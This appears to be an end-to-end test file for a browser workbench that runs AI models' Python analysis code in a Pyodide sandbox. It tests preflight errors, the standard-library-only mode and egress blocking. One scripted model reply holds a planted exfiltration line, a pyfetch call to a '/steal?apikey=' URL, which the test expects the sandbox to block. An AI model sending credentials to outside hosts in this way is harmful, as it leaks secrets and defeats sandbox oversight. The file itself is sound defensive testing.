/// <reference lib="dom" />
// The environment a page run gets, in Chromium: packages that cannot be loaded stop the run before it
// starts (no record), "Standard library only" is the way to run without them (and the model is told
// so), and a page load is clean (no console error, no favicon 404).
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startScriptedServer, type ScriptedServer } from './helpers/sse-server.js';
import {
  REPO_ROOT,
  SCREENSHOTS,
  scratchDir,
  setSettings,
  unzipRunFolder,
  useWorkbench,
  watchConsole,
} from './helpers/workbench.js';

const wb = useWorkbench();
const work = scratchDir('localds-preflight-');
/** Nothing listens on port 9 (discard) here: the index cannot be reached. */
const UNREACHABLE = 'http://127.0.0.1:9/pyodide/';
const replies = (
  JSON.parse(
    readFileSync(join(REPO_ROOT, 'tests/fixtures/replays/stdlib-correct.json'), 'utf8'),
  ) as { responses: string[] }
).responses;
/** A model whose code asks a host other than the run's data URL. */
const egress = [
  [
    'Trying another host.',
    '',
    '```python',
    'from pyodide.http import pyfetch',
    "r = await pyfetch('http://127.0.0.1:9/steal?apikey=planted')",
    'print(r.status, await r.text())',
    '```',
  ].join('\n'),
  'DONE',
];
let server: ScriptedServer;
let egressServer: ScriptedServer;

beforeAll(async () => {
  [server, egressServer] = await Promise.all([
    startScriptedServer(replies),
    startScriptedServer(egress, { model: 'egress' }),
  ]);
});
afterAll(async () => {
  await Promise.all([server?.close(), egressServer?.close()]);
});

/** Chooses the scripted OpenAI-compatible server on the benchmark page and presses Run. */
async function runServerModel(page: Page, from = server, model = 'scripted-stdlib'): Promise<void> {
  await page.goto(`${wb.url}#/benchmarks/ab-test-analysis`);
  await page.getByLabel('OpenAI-compatible server').check();
  await page.getByLabel(/Server URL/).fill(from.baseUrl);
  await page.getByLabel('Model name').fill(model);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await page.locator('.live-run').waitFor();
}

async function historyText(page: Page): Promise<string> {
  await page.goto(`${wb.url}#/history`);
  await page.locator('main h1').waitFor();
  return page.locator('main').innerText();
}

describe('preflight and the Python environment in the page', { timeout: 240_000 }, () => {
  it('a page load logs no console error and asks for no missing file (favicon included)', async () => {
    const page = await wb.context.newPage();
    const seen = watchConsole(page);
    await page.goto(`${wb.url}#/`);
    await page.locator('main h1').waitFor();
    await page.goto(`${wb.url}#/benchmarks/ab-test-analysis`);
    await page.getByRole('button', { name: 'Run', exact: true }).waitFor();
    // The icon is declared relative to the page, so it is found under the sub-path.
    const icon = await page.evaluate(async () => {
      const href = document.querySelector<HTMLLinkElement>('link[rel="icon"]')?.href ?? '';
      return { href, status: (await fetch(href)).status };
    });
    expect(icon.href.startsWith(wb.url)).toBe(true);
    expect(icon.status).toBe(200);
    expect(seen.failed).toEqual([]);
    expect(seen.errors).toEqual([]);
    await page.close();
  });

  it('with the package index unreachable, Run shows the preflight error and records no run', async () => {
    const page = await wb.context.newPage();
    const seen = watchConsole(page);
    await setSettings(page, wb.url, { indexUrl: UNREACHABLE, stdlibOnly: false });
    const chats = server.chatBodies.length;
    await runServerModel(page);
    const alert = page.locator('.live-run [role="alert"]');
    await alert.waitFor({ timeout: 120_000 });
    const text = await alert.innerText();
    expect(text).toContain('The run did not start');
    expect(text).toContain(UNREACHABLE);
    expect(text).toMatch(/could not load Pyodide packages/);
    expect(text).toContain('Nothing was recorded');
    expect(text).toContain('self-host the Pyodide distribution');
    expect(text).toContain('Standard library only');
    await expect(page.getByTestId('live-phase').innerText()).resolves.toBe('Failed');
    // The live view's Pyodide steps say what was tried and that it failed.
    const stages = await page.getByTestId('pyodide-stages').innerText();
    expect(stages).toContain(
      `loading packages pandas, scipy, matplotlib, requests from ${UNREACHABLE}`,
    );
    expect(stages).toMatch(/failed: /);
    await page.screenshot({ path: join(SCREENSHOTS, 'preflight-error.png'), fullPage: true });
    // The model was never asked anything, and history has no run.
    expect(server.chatBodies.length).toBe(chats);
    expect(await historyText(page)).not.toContain('scripted-stdlib');
    // The failed fetches are handled: nothing uncaught, nothing logged as an error by the page.
    expect(seen.errors).toEqual([]);
    await page.close();
  });

  it('"Standard library only": the prompt names only the standard library and run.json records it', async () => {
    const page = await wb.context.newPage();
    await setSettings(page, wb.url, { indexUrl: UNREACHABLE, stdlibOnly: true });
    const first = server.chatBodies.length;
    await runServerModel(page);
    await page.locator('[data-check-id]').first().waitFor({ timeout: 200_000 });
    const body = server.chatBodies[first] as { messages: { role: string; content: string }[] };
    const task = body.messages[1]!.content;
    expect(task).toContain(
      "Python packages available: only the Python standard library, plus Pyodide's built-in `pyodide.http.pyfetch` for HTTP requests. pandas, scipy, matplotlib, requests are not installed",
    );
    expect(task).not.toContain('Python packages available: pandas');
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download run folder (.zip)' }).click();
    const zip = join(work, 'stdlib.zip');
    await (await download).saveAs(zip);
    const runJson = JSON.parse(readFileSync(join(unzipRunFolder(zip, work), 'run.json'), 'utf8'));
    expect(runJson.environment).toEqual({ packages: 'stdlib-only', loaded: [] });
    expect(runJson.prompts.user).toBe(task);
    // Its leaderboard group is the standard library's own: never pooled with runs that had the packages.
    await page.goto(wb.url);
    const groups = page.locator('table.leaderboard', { hasText: 'scripted-stdlib' });
    await groups.first().waitFor();
    const captions = await groups.locator('caption').allInnerTexts();
    expect(captions.length).toBeGreaterThan(0);
    for (const caption of captions) expect(caption).toContain(' · standard library only · ');
    await setSettings(page, wb.url, { stdlibOnly: false });
    await page.close();
  });

  it('a request to another host: the notebook, run.json and "How it ran" all say it was blocked and why', async () => {
    const page = await wb.context.newPage();
    await setSettings(page, wb.url, { stdlibOnly: true });
    await runServerModel(page, egressServer, 'egress');
    await page.locator('[data-testid="blocked-requests"]').waitFor({ timeout: 200_000 });
    const why =
      "request to 127.0.0.1:9 blocked: this sandbox only answers the run's data URL, http://embedded.localds.invalid/rest/v1/";
    await expect(page.getByTestId('blocked-requests').innerText()).resolves.toContain(why);
    await expect(page.locator('main').innerText()).resolves.toContain(
      `403 localds sandbox: ${why}`,
    );
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download run folder (.zip)' }).click();
    const zip = join(work, 'egress.zip');
    await (await download).saveAs(zip);
    const runJson = JSON.parse(readFileSync(join(unzipRunFolder(zip, work), 'run.json'), 'utf8'));
    expect(runJson.trace.requests).toEqual([
      expect.objectContaining({
        url: 'http://127.0.0.1:9/steal',
        status: 403,
        blocked: expect.stringContaining(why),
      }),
    ]);
    await setSettings(page, wb.url, { stdlibOnly: false });
    await page.close();
  });
});
